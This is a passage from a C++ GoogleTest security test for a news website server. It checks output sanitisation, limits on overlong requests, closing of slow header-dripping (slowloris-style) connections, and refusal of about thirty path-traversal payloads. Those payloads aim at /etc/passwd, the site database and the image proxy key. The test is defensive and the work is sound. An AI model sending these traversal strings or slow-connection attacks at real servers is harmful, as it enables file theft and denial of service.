  auto slow_started = std::chrono::steady_clock::now();
  for (int c = 0; c < kSlowClients; ++c) {
    slow.emplace_back([&, c] {
      httpd::testing::RawClient client(static_cast<uint16_t>(port));
      if (!client.connected()) return;
      ++slow_connected;
      const std::string drip = "GET / HTTP/1.1\r\nHost: x\r\nX-Slow-" + std::to_string(c) + ": " + std::string(40, 'a');
      for (char byte : drip) {
        if (!client.Send(std::string(1, byte))) break;
        std::this_thread::sleep_for(std::chrono::seconds(1));
        if (std::chrono::steady_clock::now() - slow_started > std::chrono::seconds(25)) break;
      }
      client.ReadUntil("");
      if (client.closed_by_server()) ++slow_closed;
    });
  }

  HtmlCheck check, rss_descriptions;
  size_t pages_checked = 0, api_checked = 0;
  for (int64_t id : article_ids) {
    std::string where = "/article/" + std::to_string(id);
    auto page = HttpGet(base + where);
    EXPECT_EQ(page.status, 200) << where;
    check.Check(page.body, where, true);
    ++pages_checked;
    auto api = HttpGet(base + "/api/v1/articles/" + std::to_string(id));
    EXPECT_EQ(api.status, 200) << where;
    CheckJson(api.body, "/api/v1/articles/" + std::to_string(id), true, check);
    ++api_checked;
  }
  EXPECT_EQ(pages_checked, article_ids.size());
  EXPECT_EQ(api_checked, article_ids.size());

  // Lists, search, feeds, sitemaps.
  std::vector<std::string> html_pages = {"/", "/?page=2", "/?page=3", "/stories", "/search?q=alert",
                                         "/search?q=%3Cscript%3E", "/search?q=javascript", "/search?q=onerror"};
  std::vector<std::string> json_pages = {"/api/v1/articles?limit=100", "/api/v1/search?q=alert&limit=100",
                                         "/api/v1/sources", "/api/v1/stories?min_sources=1&limit=100"};
  std::vector<std::string> xml_pages = {"/feed.xml", "/atom.xml", "/sitemap.xml", "/news-sitemap.xml"};
  std::vector<std::string> json_feeds = {"/feed.json"};
  for (int64_t source : source_ids) {
    std::string s = "/source/" + std::to_string(source);
    if (source_ids.size() < 20 || source % 25 == 0 || source < 6) {  // every generated source, a sample of the rest
      html_pages.push_back(s);
      xml_pages.push_back(s + "/feed.xml");
      xml_pages.push_back(s + "/atom.xml");
      json_feeds.push_back(s + "/feed.json");
    }
  }
  for (const auto& path : html_pages) {
    auto r = HttpGet(base + path);
    EXPECT_EQ(r.status, 200) << path;
    check.Check(r.body, path, true);
  }
  for (const auto& path : json_pages) {
    auto r = HttpGet(base + path);
    EXPECT_EQ(r.status, 200) << path;
    CheckJson(r.body, path, true, check);
  }
  for (const auto& path : xml_pages) {
    auto r = HttpGet(base + path);
    EXPECT_EQ(r.status, 200) << path;
    CheckXml(r.body, path, check, rss_descriptions);
  }
  for (const auto& path : json_feeds) {
    auto r = HttpGet(base + path);
    EXPECT_EQ(r.status, 200) << path;
    CheckJson(r.body, path, false, check);
  }
  EXPECT_TRUE(check.problems.empty()) << check.problems.size() << " problem(s), the first:" << Excerpt(check.problems);
  EXPECT_GT(rss_descriptions.elements, 0u);
  // RSS readers render <description> as HTML: a plain-text excerpt reading
  // "<script>" must arrive there as text (found by this test, fixed in
  // web/handlers/feeds.cc).
  EXPECT_TRUE(rss_descriptions.problems.empty()) << Excerpt(rss_descriptions.problems);
  EXPECT_GE(check.json_ld, article_ids.size()) << "every article page carries its JSON-LD";
  EXPECT_GT(check.elements, article_ids.size() * 20);
  std::cerr << "checked " << pages_checked << " article pages, " << api_checked << " API answers, "
            << html_pages.size() + json_pages.size() + xml_pages.size() + json_feeds.size() << " other pages, "
            << check.elements << " elements\n";

  // Overlong request line and header: refused, and the next request answered.
  {
    httpd::testing::RawClient client(static_cast<uint16_t>(port));
    client.Send("GET /" + std::string(100 << 10, 'a') + " HTTP/1.1\r\nHost: x\r\n\r\n");
    std::string answer = client.ReadUntil("\r\n\r\n");
    EXPECT_TRUE(answer.rfind("HTTP/1.1 431", 0) == 0 || answer.rfind("HTTP/1.1 414", 0) == 0 ||
                answer.rfind("HTTP/1.1 400", 0) == 0)
        << answer.substr(0, 200);
  }
  {
    httpd::testing::RawClient client(static_cast<uint16_t>(port));
    std::string headers;
    for (int i = 0; i < 200; ++i) headers += "X-Filler-" + std::to_string(i) + ": " + std::string(1000, 'b') + "\r\n";
    client.Send("GET / HTTP/1.1\r\nHost: x\r\n" + headers + "\r\n");
    std::string answer = client.ReadUntil("\r\n\r\n");
    EXPECT_TRUE(answer.rfind("HTTP/1.1 431", 0) == 0 || answer.rfind("HTTP/1.1 400", 0) == 0) << answer.substr(0, 200);
  }
  EXPECT_EQ(HttpGet(base + "/").status, 200) << "after the overlong requests";

  // Path traversal into static files and the image proxy: 4xx, no file leaks.
  std::string key = ReadFile(dir_ + "/data/image_proxy.key");
  const std::vector<std::string> traversals = {
      "/static/../../etc/passwd", "/static/../../../../../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd",
      "/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/static/%252e%252e%252fetc%252fpasswd",
      "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/..\\..\\..\\etc\\passwd", "/static/..%5c..%5cetc%5cpasswd",
      "/static/..%c0%af..%c0%afetc%c0%afpasswd", "/static/....//....//etc/passwd", "/static/style.css%00.html",
      "/static/%00../../etc/passwd", "/static/../data/herald.db", "/static/../data/image_proxy.key",
      "/static//etc/passwd", "/static/style.css/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd",
      "/img/../../etc/passwd", "/img/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/img/..%2f..%2f/0/x",
      "/img/x/0/" + std::string("ZmlsZTovLy9ldGMvcGFzc3dk"),  // file:///etc/passwd
      "/img/x/0/..%2f..%2fetc%2fpasswd", "/img/%00/0/aHR0cDovL3g", "/img/a/b/c/d/../../../../etc/passwd",
      "/source/..%2f..%2fetc%2fpasswd/feed.xml", "/api/v1/articles/..%2f..%2fetc%2fpasswd",
      "/topic/..%2f..%2fetc%2fpasswd", "/article/..%2f..%2fetc%2fpasswd"};
  size_t traversals_refused = 0;
  for (const std::string& target : traversals) {
    httpd::testing::RawClient client(static_cast<uint16_t>(port));
    client.Send("GET " + target + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    std::string answer = client.ReadUntil("");
    int status = answer.size() > 12 ? std::atoi(answer.c_str() + 9) : 0;
    EXPECT_TRUE(status >= 400 && status < 500) << target << " answered " << answer.substr(0, 100);
    EXPECT_EQ(answer.find("root:"), std::string::npos) << target;
    EXPECT_EQ(answer.find("SQLite format"), std::string::npos) << target;
    if (!key.empty()) {
      EXPECT_EQ(answer.find(key), std::string::npos) << target;
    }
    if (status >= 400 && status < 500) ++traversals_refused;
  }
  // A raw NUL and a raw backslash in the request line.
  for (const std::string& target : {std::string("/static/\0../../etc/passwd", 25), std::string("/static\\..\\..\\etc\\passwd")}) {
    httpd::testing::RawClient client(static_cast<uint16_t>(port));
    client.Send("GET " + target + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    std::string answer = client.ReadUntil("");
    int status = answer.size() > 12 ? std::atoi(answer.c_str() + 9) : 0;
    EXPECT_TRUE(status >= 400 && status < 500) << answer.substr(0, 100);
    EXPECT_EQ(answer.find("root:"), std::string::npos);
  }
  EXPECT_EQ(traversals_refused, traversals.size());

  for (auto& t : slow) t.join();
  auto slow_took = std::chrono::steady_clock::now() - slow_started;
  EXPECT_EQ(slow_connected.load(), kSlowClients);
  EXPECT_EQ(slow_closed.load(), kSlowClients) << "the server should close header-dripping connections";
  EXPECT_LT(slow_took, std::chrono::seconds(30));
  auto last = HttpGet(base + "/");
  EXPECT_EQ(last.status, 200) << "a normal page still answers at the end";
  EXPECT_EQ(StopProcess(site_pid_), 0);
  site_pid_ = -1;
  if (!have_shared)
    GTEST_SKIP() << "the feedparser sanitize cases need " << kSanitizeCases
                 << " (the shared datasets folder); the generated cases ran";
}

}  // namespace
}  // namespace herald::testing
